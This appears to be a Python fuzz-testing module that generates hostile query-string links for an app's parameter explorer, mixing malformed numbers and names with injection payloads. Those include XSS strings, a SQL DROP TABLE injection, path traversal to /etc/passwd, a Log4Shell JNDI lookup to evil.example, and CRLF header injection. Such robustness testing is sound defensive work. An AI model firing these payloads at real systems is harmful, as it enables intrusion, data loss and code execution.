"""Links that nobody means well with, from a seed: any names, any texts."""

import random

from explorer.parameters import BOX, PARAMETERS, PIN


def _listed(words: str) -> list[str]:
    return words.split()


NUMBERS = _listed(
    "NaN nan -nan Infinity -inf 1e400 -1e400 1e-400 1e308 0 -0 -0.0 -1 +5 05 5.0 2.5 1e2 1_000 0x10 0b1 1,000 "
    "1.000,5 １２ ٣ ² ½ Ⅷ 五 1j 2147483648 4294967296 9007199254740993 18446744073709551616 512.5 20001 100001 "
    "--5 5- 5e e5 . - +"
)
NUMBERS += ["9" * 30, "9" * 400, "9" * 5_000, "-" + "9" * 5_000, "0." + "0" * 400 + "1", " 7 ", "7\n", "7\x00"]
TYPES = _listed(
    'True TRUE yes on 1 null None undefined [] {} [1,2] {"a":1} () 2026-11-28 12:00 2026-11-28T12:00:00 9999-12-31 '
    "0001-01-01T00:00:00 __class__ %s%s%n {0} fresh Nested adam GD"
)
TEXTS = _listed(
    '<script>alert(1)</script> "><img/src=x/onerror=alert(1)> javascript:alert(1) `x`**y** [a](http://evil.example) '
    "![a](http://evil.example/x.png) $\\frac{1}{0}$ :material/delete::red[x] </code> ';DROP/**/TABLE/**/Cache;-- "
    "../../../etc/passwd file:///etc/passwd ${jndi:ldap://evil.example} {{7*7}} %00 %2e%2e &V=3 ?V=3 #V=3 V=3&V=4 "
    "\\ \\x 中文 ﬁ İ ß ẞ"
)
TEXTS += ["", " ", "\t", "\n", "\x00", "\u202e", "\u200b", "\ufeff", "\ud7ff", "🙂" * 50, "é" * 3_000, "a\u0301" * 40]
TEXTS += ["\r\nSet-Cookie: a=b", "line\n\n# heading"]
NAMES = ["", "W", "v", "__class__", "__proto__", "n[]", "<b>", "n\x00", "N" * 2_000, "stopped", "job", "watcher"]
NAMES += [BOX, PIN]
SMALL = {"points": ["10"], "seeds": ["1"], "steps": ["100"]}  # of what is sound: work for a moment


def asked(dice: random.Random) -> dict[str, list[str]]:
    """What a link asks for: some names with some values, now and then a sound one among them."""
    names = dice.sample(list(PARAMETERS), dice.randint(1, 8))
    if dice.random() < 0.3:
        names.append(dice.choice(NAMES))
    wanted = {name: [_text(dice, name) for _ in range(dice.choice([1, 1, 1, 2, 2, 3, 30]))] for name in names}
    return (SMALL if dice.random() < 0.7 else {}) | wanted


def _text(dice: random.Random, name: str) -> str:
    kind = dice.random()
    if name in PARAMETERS and kind < 0.4:  # what the control offers, or nearly
        parameter = PARAMETERS[name]
        text = parameter.show(dice.choice(parameter.options))
        return dice.choice([text, text, text, text.upper(), f" {text}", f"{text}0", text[:-1], f"-{text}"])
    if kind < 0.45:
        return "".join(chr(dice.choice([dice.randrange(1, 128), dice.randrange(0xD7FF)])) for _ in range(9))
    return dice.choice(dice.choice([NUMBERS, TYPES, TEXTS]))
